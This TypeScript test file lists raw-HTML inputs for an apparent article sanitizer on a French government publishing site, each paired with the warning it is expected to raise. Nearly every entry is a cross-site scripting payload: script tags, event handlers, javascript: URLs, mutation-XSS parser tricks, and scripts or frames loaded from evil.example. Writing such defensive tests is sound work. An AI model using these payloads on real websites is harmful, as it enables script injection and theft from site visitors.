import { harmless, inArticles, loses } from "./hostile-case";

const dropped = harmless("no such attribute is kept, and nothing is lost");
const tagless = harmless("Markdown takes no such tag: it stays text");
const words = harmless("scripts of the page look for no such thing");
const closed = harmless("what it closes was never opened in the article");

const inert = "nothing reads it without the attributes that no article may set";

/** Raw HTML in Markdown. */
export const htmlCases = [
  ...inArticles("HTML script", {
    "in a paragraph": ["Un <script>pwned()</script> mot.", "1 unsafe-html"],
    alone: ["<script>pwned()</script>", "1 unsafe-html"],
    "in mixed case": ["<ScRiPt>pwned()</sCrIpT>", "1 unsafe-html"],
    "from another site": [
      '<script src="https://evil.example/a.js"></script>',
      "1 unsafe-html",
    ],
    "from another site without a scheme": [
      "<script src=//evil.example/a.js></script>",
      "1 unsafe-html",
    ],
    "as a module": [
      '<script type="module">import "https://evil.example/a.js"</script>',
      "1 unsafe-html",
    ],
    "inside a script's tag": [
      "<scr<script>ipt>pwned()</scr</script>ipt>",
      "1 unsafe-html",
    ],
    "with a slash instead of a space": [
      "<script/x>pwned()</script/x>",
      tagless,
    ],
    "never closed": ["<script>pwned()", "1 unsafe-html", loses],
    "behind a blank line": [
      "<div>\n\n<script>pwned()</script>\n\n</div>",
      "3 unsafe-html",
    ],
    "of data for machines": [
      '<script type="application/ld+json">{"@type":"Evil"}</script>',
      "1 unsafe-html",
    ],
    "that reads the address of a module": [
      '<script type="importmap">{"imports":{"a":"https://evil.example/a.js"}}</script>',
      "1 unsafe-html",
    ],
    "for browsers that prerender": [
      '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/"]}]}</script>',
      "1 unsafe-html",
    ],
  }),
  ...inArticles("HTML handler", {
    onclick: ['<p onclick="pwned()">x</p>', "1 unsafe-html"],
    "onerror of an image": [
      "<img src=x onerror=pwned()>",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "onerror after a slash": ["<img/src=x/onerror=pwned()>", tagless],
    "onerror after a form feed": [
      "<p>Un <img src=x\fonerror=pwned()></p>",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "onload of an image that is there": [
      '<img src="/img/carre.png" alt="un carré" onload="pwned()">',
      "1 unsafe-html",
    ],
    "onmouseover in capitals": [
      '<b ONMOUSEOVER="pwned()">x</b>',
      "1 unsafe-html",
    ],
    "onfocus with a tab stop": [
      '<p tabindex="0" onfocus="pwned()">x</p>',
      "1 unsafe-html",
    ],
    "onfocus of a field that takes the focus": [
      "<input autofocus onfocus=pwned()>",
      "1 unsafe-html",
      "1 unknown-html",
    ],
    "ontoggle of details that are open": [
      "<details open ontoggle=pwned()><summary>x</summary>y</details>",
      "1 unsafe-html",
    ],
    "onanimationstart by a class of the site": [
      '<p class="fr-modal" onanimationstart="pwned()">x</p>',
      "1 unsafe-html",
      "1 unsafe-html",
    ],
    ontransitionend: [
      '<p class="fr-collapse" ontransitionend="pwned()">x</p>',
      "1 unsafe-html",
    ],
    "onbeforetoggle of a popover": [
      "<div popover onbeforetoggle=pwned()>x</div>",
      "1 unsafe-html",
    ],
    onscrollend: ["<div onscrollend=pwned()>x</div>", "1 unsafe-html"],
    onpointerrawupdate: [
      "<div onpointerrawupdate=pwned()>x</div>",
      "1 unsafe-html",
    ],
    oncontentvisibilityautostatechange: [
      "<div oncontentvisibilityautostatechange=pwned()>x</div>",
      "1 unsafe-html",
    ],
    "of a name that no browser knows": [
      "<div onfuture=pwned()>x</div>",
      "1 unsafe-html",
    ],
    "onerror of a film": [
      '<video src="/absent.mp4" onerror="pwned()"></video>',
      "1 unsafe-html",
      "1 dead-link",
    ],
    "onerror of a source": [
      '<video controls><source src="/absent.mp4" onerror="pwned()"></video>',
      "1 unsafe-html",
      "1 dead-link",
    ],
    "oncuechange of captions": [
      '<video controls src="/absent.mp4"><track default oncuechange="pwned()"></video>',
      "1 unsafe-html",
      "1 dead-link",
    ],
    "onload of a body": [
      "<body onload=pwned()>x</body>",
      harmless("an article has no body: its tag is left out whole"),
    ],
    "on a closing tag": ["<p>x</p onclick=pwned()>", "1 unknown-html"],
    "written twice": ["<p onclick=a() onclick=pwned()>x</p>", "1 unsafe-html"],
    "behind an attribute without end": [
      '<p title="x onclick=pwned()>x</p>',
      "1 unclosed-html",
    ],
    "behind backquotes": [
      "<p>Un <img src=`x` onerror=pwned()></p>",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "in the words of an attribute": [
      "<p title='<img src=x onerror=pwned()>'>x</p>",
      harmless("it stays what the attribute says"),
    ],
  }),
  ...inArticles("HTML address", {
    "javascript: in a link": [
      '<a href="javascript:pwned()">x</a>',
      "1 unsafe-url",
    ],
    "javascript: with a line end inside": [
      '<a href="java\nscript:pwned()">x</a>',
      "1 unsafe-url",
    ],
    "javascript: in entities without semicolons": [
      '<a href="&#106&#97vascript:pwned()">x</a>',
      "1 unsafe-url",
    ],
    "javascript: without quotes": [
      "<a href=javascript:pwned()>x</a>",
      "1 unsafe-url",
    ],
    "javascript: in a quotation's source": [
      '<blockquote cite="javascript:pwned()">x</blockquote>',
      "1 unsafe-url",
    ],
    "javascript: in a film": [
      '<video src="javascript:pwned()"></video>',
      "1 unsafe-url",
    ],
    "javascript: in a poster": [
      '<video src="/absent.mp4" poster="javascript:pwned()"></video>',
      "1 unsafe-url",
      "1 dead-link",
    ],
    "javascript: in captions": [
      '<video controls><track src="javascript:pwned()"></video>',
      "1 unsafe-url",
    ],
    "javascript: in an area of an image": [
      '<map name="m"><area href="javascript:pwned()"></map>',
      "1 unsafe-url",
      "1 unknown-html",
      "1 unknown-html",
    ],
    "javascript: of a namespace": [
      '<a xlink:href="javascript:pwned()">x</a>',
      dropped,
    ],
    "a ping": [
      '<a href="/contact/" ping="https://evil.example/">x</a>',
      dropped,
    ],
    "a part of a policy": [
      '<a href="/contact/" attributionsrc="https://evil.example/">x</a>',
      dropped,
    ],
    "a window of a name": [
      '<a href="https://gouv.fr/" target="parution">x</a>',
      dropped,
    ],
    "an image of another site": [
      '<img src="https://evil.example/suivi.gif" alt="">',
      "1 external-image",
    ],
    "sources of another site": [
      '<picture><source srcset="https://evil.example/a.png"><img src="/img/carre.png" alt="un carré"></picture>',
      dropped,
    ],
    "a film of another site": [
      '<video src="https://evil.example/a.mp4"></video>',
      "1 external-media",
    ],
    "captions of another site": [
      '<video controls src="/absent.mp4"><track default src="https://evil.example/a.vtt"></video>',
      "1 external-media",
    ],
    "a background of another site": [
      '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
      "1 table-without-header",
      "1 table-without-caption",
    ],
    "an image by another name": [
      '<image src="https://evil.example/a.png" alt="">',
      "1 external-image",
    ],
    "an address that a link hides": [
      '<a href="//evil.example/\\@www.gouv.fr">x</a>',
      harmless("a link to another site, which its reader may open"),
    ],
  }),
  ...inArticles("HTML frame", {
    "of a document in its attribute": [
      '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
      "1 unsafe-html",
      "1 unsafe-html",
    ],
    "of javascript:": [
      '<iframe src="javascript:parent.pwned()"></iframe>',
      "1 unsafe-html",
      "1 unsafe-url",
    ],
    "of data:": [
      '<iframe src="data:text/html,<script>parent.pwned()</script>"></iframe>',
      "1 unsafe-html",
      "1 unsafe-url",
    ],
    "of a host that is not allowed": [
      '<iframe src="https://evil.example/"></iframe>',
      "1 forbidden-host",
    ],
    "of a host whose name begins as one that is allowed": [
      '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
      "1 forbidden-host",
    ],
    "of a host behind the name of one that is allowed": [
      '<iframe src="https://www.youtube-nocookie.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
      "1 forbidden-host",
    ],
    "of an allowed host with a port": [
      '<iframe src="https://grist.numerique.gouv.fr:8443/o/docs/"></iframe>',
      "1 forbidden-host",
    ],
    "of an allowed host with a document beside": [
      '<iframe src="https://grist.numerique.gouv.fr/o/docs/" srcdoc="<script>parent.pwned()</script>" title="x"></iframe>',
      harmless("of the frame, its address and its title alone are kept"),
    ],
    "of an allowed host with a handler": [
      '<iframe src="https://grist.numerique.gouv.fr/o/docs/" onload="pwned()" title="x"></iframe>',
      harmless("of the frame, its address and its title alone are kept"),
    ],
    "never closed": [
      '<iframe src="https://evil.example/">',
      "1 forbidden-host",
      "1 unclosed-html",
    ],
    "in a frameset": [
      '<frameset><frame src="javascript:pwned()"></frameset>',
      harmless("an article has no frameset: its tags are left out whole"),
    ],
    "as a portal": [
      '<portal src="https://evil.example/"></portal>',
      "1 unknown-html",
    ],
    "as a fenced frame": ["<fencedframe></fencedframe>", "1 unknown-html"],
  }),
  ...inArticles("HTML plugin", {
    "object of data:": [
      '<object data="data:text/html,<script>pwned()</script>"></object>',
      "1 unsafe-html",
      "1 unsafe-url",
    ],
    "object of a drawing": [
      '<object data="/img/carre.svg" type="image/svg+xml"></object>',
      "1 unsafe-html",
    ],
    "embed of javascript:": [
      '<embed src="javascript:pwned()">',
      "1 unsafe-html",
      "1 unsafe-url",
    ],
    applet: [
      '<applet code="Evil.class" codebase="https://evil.example/"></applet>',
      "1 unknown-html",
    ],
    "param of an address": [
      '<object><param name="src" value="https://evil.example/"></object>',
      "1 unsafe-html",
      "1 unknown-html",
    ],
    isindex: [
      "<isindex action=javascript:pwned() type=image>",
      "1 unknown-html",
      "1 unsafe-url",
    ],
    keygen: [
      "<keygen autofocus onfocus=pwned()>",
      "1 unknown-html",
      "1 unsafe-html",
    ],
    bgsound: ['<bgsound src="https://evil.example/a.mid">', "1 unknown-html"],
    "an element of no name that browsers know": [
      "<x-evil onclick=pwned()>x</x-evil>",
      "1 unknown-html",
      "1 unsafe-html",
    ],
    "an element that is made into another": [
      '<button is="x-evil">x</button>',
      dropped,
    ],
    "a slot with a handler": [
      "<slot onslotchange=pwned()>x</slot>",
      "1 unknown-html",
      "1 unsafe-html",
    ],
    "a portal of the program": [
      '<parution-directive data-index="0">x</parution-directive>',
      "1 unknown-html",
    ],
  }),
  ...inArticles("HTML form", {
    "to another site": [
      '<form action="https://evil.example/"><input name="a"><button>x</button></form>',
      "1 unsafe-html",
      "1 unknown-html",
    ],
    "to javascript:": [
      '<form action="javascript:pwned()"><button>x</button></form>',
      "1 unsafe-html",
      "1 unsafe-url",
    ],
    "by the address of a button": [
      '<button formaction="javascript:pwned()">x</button>',
      "1 unsafe-url",
    ],
    "by a button for the form of the page": [
      '<button form="search" type="submit">x</button>',
      dropped,
    ],
    "by an image": [
      '<input type="image" src="https://evil.example/a.png">',
      "1 unknown-html",
    ],
    "of a password": [
      '<input type="password" autocomplete="current-password">',
      "1 unknown-html",
    ],
    "inside a form": [
      "<form><div></form><form><button>x</button></form>",
      "1 unsafe-html",
      "1 unsafe-html",
    ],
    "of a list to choose in": [
      "<select autofocus onfocus=pwned()><option>x</option></select>",
      "1 unsafe-html",
      "1 unsafe-html",
      "1 unknown-html",
    ],
    "a button that calls a popover": [
      '<button popovertarget="page_volet-recherche">x</button>',
      dropped,
    ],
    "a button that gives orders to a dialog": [
      '<button commandfor="page_affichage" command="show-modal">x</button>',
      dropped,
    ],
    "a dialog that is open": ["<dialog open>x</dialog>", "1 unknown-html"],
  }),
  ...inArticles("HTML head", {
    base: ['<base href="https://evil.example/">', "1 unsafe-html"],
    "base that only has a target": ['<base target="_blank">', "1 unsafe-html"],
    "meta that leads elsewhere": [
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      "1 unsafe-html",
    ],
    "meta with another policy": [
      '<meta http-equiv="Content-Security-Policy" content="script-src *">',
      "1 unsafe-html",
    ],
    "meta of referrers": [
      '<meta name="referrer" content="unsafe-url">',
      "1 unsafe-html",
    ],
    "link of a stylesheet": [
      '<link rel="stylesheet" href="https://evil.example/a.css">',
      "1 unsafe-html",
    ],
    "link that is fetched before": [
      '<link rel="prefetch" href="https://evil.example/">',
      "1 unsafe-html",
    ],
    "link of a manifest": [
      '<link rel="manifest" href="https://evil.example/a.json">',
      "1 unsafe-html",
    ],
    style: ["<style>body { display: none }</style>", "1 unsafe-html"],
    "style that asks another site": [
      "<style>@import 'https://evil.example/a.css';</style>",
      "1 unsafe-html",
    ],
    "style never closed": [
      "<style>* { display: none }",
      "1 unsafe-html",
      loses,
    ],
    "an attribute of style over the whole page": [
      '<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>',
      "1 inline-style",
    ],
    "an attribute of style that asks another site": [
      '<p style="background:url(https://evil.example/a.png)">x</p>',
      "1 inline-style",
    ],
    "a title": ["<title>Autre titre</title>", "1 unsafe-html"],
    "another document": [
      "<!doctype html><html><head><title>Autre</title></head><body><p>x</p></body></html>",
      "1 unsafe-html",
    ],
  }),
  ...inArticles("HTML that parsers read in two ways", {
    "svg with a script": [
      "<svg><script>pwned()</script></svg>",
      "1 unsafe-html",
    ],
    "svg with a handler": [
      "<svg onload=pwned()></svg>",
      "1 unsafe-html",
      "1 unsafe-html",
    ],
    "svg with a handler after a slash": ["<svg/onload=pwned()>", tagless],
    "svg whose animation makes a link": [
      '<svg><a><animate attributeName="href" values="javascript:pwned()"/><text y="20">x</text></a></svg>',
      "1 unsafe-html",
    ],
    "svg with HTML inside": [
      "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "svg that an HTML tag breaks out of": [
      "<svg><p><img src=x onerror=pwned()></p>",
      "1 unsafe-html",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "svg with a CDATA section": [
      "<svg><![CDATA[</svg><img src=x onerror=pwned()>]]></svg>",
      "1 unsafe-html",
    ],
    "svg with a style that holds a tag": [
      '<svg></p><style><a title="</style><img src=x onerror=pwned()>"></style></svg>',
      "1 unsafe-html",
      "1 unsafe-html",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "svg with a title that holds HTML": [
      "<svg><title><img src=x onerror=pwned()></title></svg>",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "math with text that becomes HTML": [
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
      "1 unsafe-html",
      "1 missing-alt",
      "1 unknown-html",
      "1 unknown-html",
      "1 unsafe-html",
    ],
    "math with an annotation in HTML": [
      '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "math with a link": [
      '<math href="javascript:pwned()">x</math>',
      "1 unsafe-html",
      "1 unsafe-url",
    ],
    "math with svg in a style": [
      "<math><mi><svg><style><img src=x onerror=pwned()></style></svg></mi></math>",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "a form in a form around math": [
      "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
      "1 unsafe-html",
      "1 unsafe-html",
      "1 unsafe-html",
      "1 unknown-html",
      "1 unknown-html",
    ],
    "noscript whose end is in an attribute": [
      '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
      "1 unknown-html",
    ],
    "a template": [
      "<template><script>pwned()</script></template>",
      "1 unsafe-html",
    ],
    "a template that is a shadow tree": [
      '<div><template shadowrootmode="open"><script>pwned()</script></template></div>',
      "1 unsafe-html",
    ],
    "a text area whose end is in an attribute": [
      '<textarea><p title="</textarea><img src=x onerror=pwned()>"></textarea>',
      "1 unsafe-html",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "xmp whose end is in an attribute": [
      '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>',
      "1 unsafe-html",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "noembed whose end is in an attribute": [
      '<noembed><p title="</noembed><img src=x onerror=pwned()>"></noembed>',
      "1 unsafe-html",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "noframes whose end is in an attribute": [
      '<noframes><p title="</noframes><img src=x onerror=pwned()>"></noframes>',
      "1 unsafe-html",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "a comment that ends at once": [
      "<!--><img src=x onerror=pwned()>-->",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "a comment that ends at once, with a dash": [
      "<!---><img src=x onerror=pwned()>-->",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "a comment for old browsers": [
      "<!--[if IE]><script>pwned()</script><![endif]-->",
      harmless("browsers read it as a comment, and no comment is kept"),
    ],
    "a declaration": [
      "<!ELEMENT x><img src=x onerror=pwned()>",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "a processing instruction": [
      "<?xml-stylesheet href='javascript:pwned()'?><img src=x onerror=pwned()>",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
    ],
    "a tag in a word of a table": [
      "<table><img src=x onerror=pwned()><tr><td>x</td></tr></table>",
      "1 unsafe-html",
      "1 missing-image",
      "1 missing-alt",
      "1 table-without-header",
      "1 table-without-caption",
    ],
    "a link in a link": [
      '<a href="/contact/">a<table><a href="javascript:pwned()">b</a></table></a>',
      "1 unsafe-url",
    ],
    "an element nested 90 times around a script": [
      `${"<b><i>".repeat(45)}<script>pwned()</script>`,
      "1 unsafe-html",
    ],
    "a word of the parser's own": [
      "\ufffd0\ufffd<!-->0-->&#0;0&#0;",
      harmless("the program's marks hold a NUL, which no text can"),
    ],
  }),
  ...inArticles("HTML that leaves the article", {
    "the end of the body": ["</div></main></body></html><p>x</p>", closed],
    "the end of the main part, and a footer": [
      "</div></main><footer>Faux pied de page</footer>",
      closed,
    ],
    "twenty ends of blocks": [
      `${"</div>".repeat(20)}${"</section>".repeat(20)}`,
      closed,
    ],
    "plain text until the end": ["<plaintext>", "1 unsafe-html"],
    "a text area until the end": ["<textarea>", "1 unsafe-html"],
    "a title until the end": ["<title>", "1 unsafe-html"],
    "xmp until the end": ["<xmp>", "1 unsafe-html"],
    "a list to choose in until the end": ["<select>", "1 unsafe-html"],
    "a table until the end": [
      "<table><tr><td>",
      "1 table-without-header",
      "1 table-without-caption",
    ],
    "a link until the end": [
      '<a href="/contact/">',
      harmless("the parser closes it"),
    ],
    "details until the end": [
      "<details><summary>x</summary>",
      harmless("the parser closes it"),
      loses,
    ],
    "emphasis until the end": [
      "<b><i><u><s>",
      harmless("the parser closes it"),
    ],
    "preformatted text until the end": [
      "<pre><code>",
      harmless("the parser closes it"),
    ],
    "a button until the end": ["<button>", harmless("the parser closes it")],
    "an object until the end": ["<object>", "1 unsafe-html"],
    "svg until the end": ["<svg>", "1 unsafe-html"],
    "math until the end": ["<math>", "1 unsafe-html"],
    "a template until the end": ["<template>", "1 unsafe-html", loses],
    "noscript until the end": ["<noscript>", "1 unknown-html"],
    "a comment until the end": ["<!-- ", "1 unclosed-html", loses],
    "an attribute until the end": ['<p title="', "1 unclosed-html"],
    "a script's comment that hides its end": [
      "<script><!--<script></script>",
      "1 unsafe-html",
      "1 unclosed-html",
    ],
  }),
  ...inArticles("HTML names", {
    "an id that is the page's": [
      '<p id="page_contenu">x</p>',
      "1 duplicate-id",
    ],
    "an id of the page in other capitals": [
      '<p id="PAGE_CONTENU">x</p>',
      words,
    ],
    "an id that is a property of windows": ['<p id="location">x</p>', words],
    "an id that is a function of documents": [
      '<p id="getElementById">x</p>',
      words,
    ],
    "the id that the DSFR's script has": ['<p id="dsfr">x</p>', words],
    "the id that the policy of types has": [
      '<p id="trustedTypes">x</p>',
      words,
    ],
    "the id that storage has": ['<p id="localStorage">x</p>', words],
    "the id that the program's HTML has": ['<p id="__next">x</p>', words],
    "an id that is the prototype of objects": [
      '<p id="__proto__">x</p>',
      words,
    ],
    "a name that is a part of documents": [
      '<img name="body" src="/img/carre.png" alt="un carré">',
      dropped,
    ],
    "a form that hides its own parts": [
      '<form id="a"><input id="attributes"></form>',
      "1 unsafe-html",
      "1 unknown-html",
    ],
    "an id twice": ['<p id="a">x</p><p id="a">y</p>', "1 duplicate-id"],
    "an id of a hundred thousand letters": [
      `<p id="${"a".repeat(100_000)}">x</p>`,
      words,
    ],
    "an id that ends its attribute": [
      "<p id='\"><img src=x onerror=pwned()>'>x</p>",
      harmless("it stays what the attribute says"),
    ],
    "an id that a selector cannot hold": ['<p id="a]b#c">x</p>', words],
    "the place that a skip link leads to": [
      '<p id="page_contenu" tabindex="-1">x</p>',
      "1 duplicate-id",
    ],
  }),
  ...inArticles("HTML classes", {
    "of a video of ours, with another player": [
      '<div class="parution-video" data-player="https://evil.example/" data-title="x"><button class="parution-video__play">x</button></div>',
      "1 unsafe-html",
      "1 unsafe-html",
    ],
    "of a video of ours, with javascript:": [
      '<div class="parution-video" data-player="javascript:pwned()" data-title="x"><button class="parution-video__play">x</button></div>',
      "1 unsafe-html",
      "1 unsafe-html",
    ],
    "of a button of ours that copies": [
      '<div class="parution-copy"><button data-copy="x">x</button><p role="status"></p></div>',
      "1 unsafe-html",
    ],
    "of a place of ours that lists pages": [
      '<div data-pages="https://evil.example/404.json">x</div>',
      harmless(inert),
    ],
    "of an image that the DSFR's script puts in the page": [
      '<div data-fr-inject-svg><img src="/img/carre.svg" alt="un carré"></div>',
      harmless(inert),
    ],
    "of a file that the DSFR's script asks for": [
      '<a data-fr-assess-file href="https://evil.example/a.pdf">x</a>',
      harmless(inert),
    ],
    "of settings of the DSFR's script": [
      '<p data-fr-scheme="dark" data-fr-theme="dark">x</p>',
      harmless(inert),
    ],
    "of the links of the header, which the DSFR's script copies": [
      '<ul class="fr-header__tools-links"><li>x</li></ul>',
      "1 unsafe-html",
    ],
    "of a header of its own": [
      '<div class="fr-header"><div class="fr-header__menu fr-modal">x</div></div>',
      "1 unsafe-html",
      "1 unsafe-html",
    ],
    "of a window that is open over the page": [
      '<div class="fr-modal fr-modal--opened" id="a"><p>x</p></div>',
      "1 unsafe-html",
    ],
    "of a segmented control without its parts": [
      '<div class="fr-segmented">x</div>',
      "1 unsafe-html",
    ],
    "of a manager of consent over the page": [
      '<div class="fr-consent-banner">x</div>',
      "1 unsafe-html",
    ],
    "of an image of ours that is enlarged": [
      '<a class="parution-enlarge" href="/contact/">x</a>',
      "1 unsafe-html",
    ],
    "of a link that covers what it is in": [
      '<div class="fr-enlarge-link"><a href="/contact/">x</a></div>',
      harmless("it covers the block that it is in, and no more"),
    ],
    "of accordions without their parts": [
      '<div class="fr-accordions-group"><section class="fr-accordion"><div class="fr-collapse" id="b">x</div></section></div>',
      harmless("what nothing opens stays closed"),
    ],
    "of tabs without their parts": [
      '<div class="fr-tabs"><ul class="fr-tabs__list"></ul><div class="fr-tabs__panel">x</div></div>',
      harmless("the DSFR's script leaves them alone"),
    ],
    "of no table at all": [
      "<table></table>",
      harmless("a table without rows is not shown"),
    ],
    "of a table without its parts": [
      '<div class="fr-table"><div class="fr-table__wrapper">x</div></div>',
      harmless("the DSFR's script leaves it alone"),
    ],
    "of a range without its parts": [
      '<div class="fr-range">x</div>',
      harmless("the DSFR's script leaves it alone"),
    ],
    "of a password without its parts": [
      '<div class="fr-password">x</div>',
      harmless("the DSFR's script leaves it alone"),
    ],
    "of navigations without their parts": [
      '<nav class="fr-nav"><ul class="fr-nav__list"><li class="fr-nav__item">x</li></ul></nav><nav class="fr-sidemenu"><ul class="fr-sidemenu__list"></ul></nav><nav class="fr-breadcrumb">x</nav>',
      harmless("the DSFR's script leaves them alone"),
    ],
    "of a transcription without its parts": [
      '<div class="fr-transcription">x</div>',
      harmless("the DSFR's script leaves it alone"),
    ],
    "of a tooltip of a whole article": [
      '<span class="fr-tooltip fr-placement" id="c" role="tooltip">x</span>',
      harmless("it shows when its reader points at what it explains"),
    ],
    "of a class that ends its attribute": [
      "<p class='a\" onclick=\"pwned()'>x</p>",
      harmless("it stays what the attribute says"),
    ],
  }),
  ...inArticles("HTML roles", {
    "a heading and an alert": [
      '<p role="alert" aria-live="assertive">x</p>',
      harmless("assistive technologies say what the article says"),
    ],
    "a second main part": [
      '<div role="main">x</div>',
      harmless("assistive technologies say what the article says"),
    ],
    "a button for the window of settings": [
      '<button aria-controls="page_affichage" data-fr-opened="false">x</button>',
      harmless("it opens what the page's own button opens"),
    ],
    "a tab of the DSFR": [
      '<button role="tab" class="fr-tabs__tab" aria-controls="a">x</button>',
      harmless("a tab without its tabs is a button that does nothing"),
    ],
    "text that the page takes as its own": [
      '<div aria-owns="page_contenu">x</div>',
      harmless("assistive technologies say what the article says"),
    ],
    microdata: [
      '<div itemscope itemtype="https://evil.example/"><a itemprop="url" href="/contact/">x</a></div>',
      dropped,
    ],
    "words that can be changed": [
      "<p contenteditable autofocus>x</p>",
      dropped,
    ],
    "words that the page hides": ["<p hidden inert>x</p>", dropped],
    "keys that the page takes": [
      '<a href="/contact/" accesskey="s">x</a>',
      dropped,
    ],
  }),
];
